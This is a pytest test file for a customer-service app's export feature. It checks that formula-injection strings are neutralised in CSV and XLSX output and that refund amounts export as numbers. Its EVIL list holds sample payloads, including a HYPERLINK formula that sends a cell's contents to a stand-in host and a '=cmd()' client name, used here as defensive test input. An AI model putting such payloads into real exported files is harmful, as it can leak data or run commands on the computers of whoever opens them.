"""Exports: what customers write never runs as a formula, and money stays a number."""

import csv
import io
import json
from datetime import UTC, datetime, timedelta

import openpyxl
import pytest

from concierge.domain.errors import UserError
from concierge.domain.interactions import CallOutcome
from concierge.domain.views.desk import CommissionFilter, GestureFilter
from concierge.services.exports import FORMATS, TABLES, export
from concierge.services.gesture_steps import approve_gesture, order_gesture, send_gesture
from concierge.services.ingest import StoreIngest
from concierge.services.promises import close_promise
from concierge.services.today import today
from tests.fakes import records as r
from tests.fakes.contacts import call, plan, promise, sold
from tests.fakes.house import fill, person

EVIL = [
    '=HYPERLINK("http://example.com/?"&A1,"click")',
    "+33 1 23",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


def csv_rows(data):
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def sheet(data):
    rows = list(openpyxl.load_workbook(io.BytesIO(data)).active.iter_rows())
    head = [cell.value for cell in rows[0]]
    return [dict(zip(head, row, strict=True)) for row in rows[1:]]


@pytest.fixture
def written(local_workplace):
    """An order for each evil name; tabs and line ends come from outside only."""
    orders = [r.order(number, name=words) for number, words in enumerate(EVIL, 1)]
    fill(local_workplace, [r.client(1, first_name="=cmd()", last_name="Bold")], orders)
    return local_workplace


def test_a_formula_is_text_in_csv(written):
    found = {row["name"] for row in csv_rows(export(written, "orders", "csv"))}
    assert found == {f"'{words}" for words in EVIL}
    (client,) = csv_rows(export(written, "clients", "csv"))
    assert client["name"] == "'=cmd() Bold"


def test_a_formula_is_text_in_a_sheet_and_nothing_is_added_to_it(written):
    cells = [row["name"] for row in sheet(export(written, "orders", "xlsx"))]
    assert {cell.data_type for cell in cells} == {"s"}
    assert {cell.value.replace("_x000D_", "\r") for cell in cells} == set(EVIL)


def test_json_keeps_the_words_as_they_are(written):
    found = {row["name"] for row in json.loads(export(written, "orders", "json"))}
    assert found == set(EVIL)


@pytest.fixture
def earned(local_workplace):
    """A sale of 1,000.00 of which half came back: 60.00 and -30.00."""
    (client,) = fill(local_workplace)
    call(local_workplace, client, r.NOW - timedelta(days=31))
    sale = sold(1, 1, 30, refunds=(r.refund(1, 50_000),))
    StoreIngest(local_workplace).apply(1, "orders", [sale], None)
    return local_workplace


def test_negative_money_is_a_number_in_every_format(earned):
    rows = csv_rows(export(earned, "commissions", "csv"))
    assert sorted(row["commission"] for row in rows) == ["-30.00", "60.00"]
    assert sorted(row["net_sale"] for row in rows) == ["-500.00", "1000.00"]
    cells = [row["commission"] for row in sheet(export(earned, "commissions", "xlsx"))]
    assert {cell.data_type for cell in cells} == {"n"}
    assert sorted(cell.value for cell in cells) == [-30, 60]
    found = json.loads(export(earned, "commissions", "json"))
    assert sorted(row["commission"] for row in found) == ["-30.00", "60.00"]


def test_the_filter_narrows_the_file(earned):
    none = CommissionFilter(month="1999-01")
    assert json.loads(export(earned, "commissions", "json", none)) == []
    all_of_it = json.loads(export(earned, "commissions", "json"))
    assert len(all_of_it) == 2


def test_gestures_are_filtered_by_their_month(local_workplace):
    (client,) = fill(local_workplace)
    plan(local_workplace, client)
    for month, count in (("2026-06", 1), ("2026-05", 0)):
        found = json.loads(export(local_workplace, "gestures", "json", GestureFilter(month)))
        assert len(found) == count


@pytest.mark.parametrize("kind", FORMATS)
@pytest.mark.parametrize("what", TABLES)
def test_an_empty_house_exports_heads_alone(local_workplace, what, kind):
    data = export(local_workplace, what, kind)
    if kind == "csv":
        assert csv_rows(data) == []
    elif kind == "json":
        assert json.loads(data) == []
    else:
        assert openpyxl.load_workbook(io.BytesIO(data)).active.max_row == 1


def test_promises_are_counted_by_person_as_today_counts_them(local_workplace):
    (client,) = fill(local_workplace)
    for hour in (17, 18, 19):
        made = promise(11, hour)
        call(local_workplace, client, r.NOW, outcome=CallOutcome.NO_ANSWER, promise=made)
    owed = [row for row in today(local_workplace).rows if row.promise is not None]
    for row in owed[:2]:
        close_promise(local_workplace, row.promise, kept=True)
    local_workplace.clock.advance(hours=6)
    view = today(local_workplace)
    (row,) = csv_rows(export(local_workplace, "promises", "csv"))
    assert (row["staff"], row["closed"], row["kept"]) == (local_workplace.me.name, "3", "2")
    assert (row["broken"], row["kept_percent"]) == ("1", "67")
    assert (view.promises_kept, view.promises_closed) == (2, 3)


def test_every_table_holds_what_happened(earned):
    (client,) = [row["id"] for row in json.loads(export(earned, "clients", "json"))]
    plan(earned, client)
    (order,) = json.loads(export(earned, "orders", "json"))
    assert (order["name"], order["client_id"], order["net"]) == ("#4501", client, "1000.00")
    (gesture,) = csv_rows(export(earned, "gestures", "csv"))
    assert (gesture["cost"], gesture["final_cost"]) == ("9.50", "")
    late = r.parcel(promised_at=r.NOW - timedelta(days=2))
    StoreIngest(earned).apply(1, "orders", [r.order(2, parcels=(late,))], None)
    (parcel,) = csv_rows(export(earned, "parcels", "csv"))
    assert (parcel["order"], parcel["late"], parcel["last_word"]) == (
        "#4502",
        "yes",
        "Memphis Arrived at the hub",
    )
    assert (parcel["why_late"], parcel["expected_at"]) == ("promise", "")


@pytest.mark.parametrize(("what", "kind"), [("salaries", "csv"), ("clients", "pdf")])
def test_an_unknown_table_or_format_says_what_there_is(local_workplace, what, kind):
    with pytest.raises(UserError, match=r"clients|xlsx"):
        export(local_workplace, what, kind)


def test_payroll_reads_the_house_s_month_and_day_and_what_is_taken_back(local_workplace):
    (client,) = fill(local_workplace)
    midnight = datetime(2026, 5, 31, 22, 30, tzinfo=UTC)  # half past midnight in Paris
    call(local_workplace, client, midnight - timedelta(hours=1))
    sale = r.order(1, placed_at=midnight, refunds=(r.refund(1, 40_000, at=r.NOW),))
    StoreIngest(local_workplace).apply(1, "orders", [sale], None)
    rows = {row["kind"]: row for row in csv_rows(export(local_workplace, "commissions", "csv"))}
    credit, back = rows["credit"], rows["clawback"]
    assert (credit["month"], credit["day"], credit["takes_back"]) == ("2026-06", "2026-06-01", "")
    assert (back["month"], back["day"], back["takes_back"]) == (
        "2026-06",
        "2026-06-11",
        credit["line"],
    )


def test_a_gesture_that_cost_nothing_in_the_end_says_so(local_workplace):
    (client,) = fill(local_workplace)
    gesture = plan(local_workplace, client)
    approve_gesture(person(local_workplace, "Margaux Vidal"), gesture)
    order_gesture(local_workplace, gesture)
    assert json.loads(export(local_workplace, "gestures", "json"))[0]["final_cost"] is None
    send_gesture(local_workplace, gesture, r.eur(0))
    assert json.loads(export(local_workplace, "gestures", "json"))[0]["final_cost"] == "0.00"
